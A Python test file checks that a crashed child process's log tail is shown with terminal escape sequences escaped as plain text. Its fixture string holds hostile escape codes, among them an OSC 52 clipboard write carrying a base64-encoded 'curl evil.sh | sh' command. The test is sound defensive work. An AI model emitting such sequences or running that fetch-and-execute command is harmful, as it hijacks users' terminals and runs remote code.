"""A dead child's log tail goes to a terminal: what a model wrote into a log never drives it."""

import sys
from pathlib import Path

from envrl.runtime.process import spawn

HOSTILE = "answer: \x1b]0;owned\x07\x1b[2J\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x9b31m done\tok"


def test_a_log_tail_shows_escape_sequences_as_text_and_keeps_the_rest(tmp_path: Path) -> None:
    """Before: the tail went to the terminal as written: a window title, a cleared screen and an
    OSC 52 clipboard write from a completion an env server logged."""
    log = tmp_path / "env.log"
    program = f"import sys; print('first line'); print({HOSTILE!r}); sys.exit(3)"
    child = spawn([sys.executable, "-c", program], name="env server", log_file=log)
    child.wait(30)
    message = str(child.failure(child.describe_exit()))
    assert not any(ord(c) < 32 and c not in "\n\t" or 0x7F <= ord(c) <= 0x9F for c in message)
    assert "first line\nanswer: \\x1b]0;owned\\x07\\x1b[2J\\x1b]52;c;" in message
    assert "\\x9b31m done\tok" in message and "exited with code 3" in message
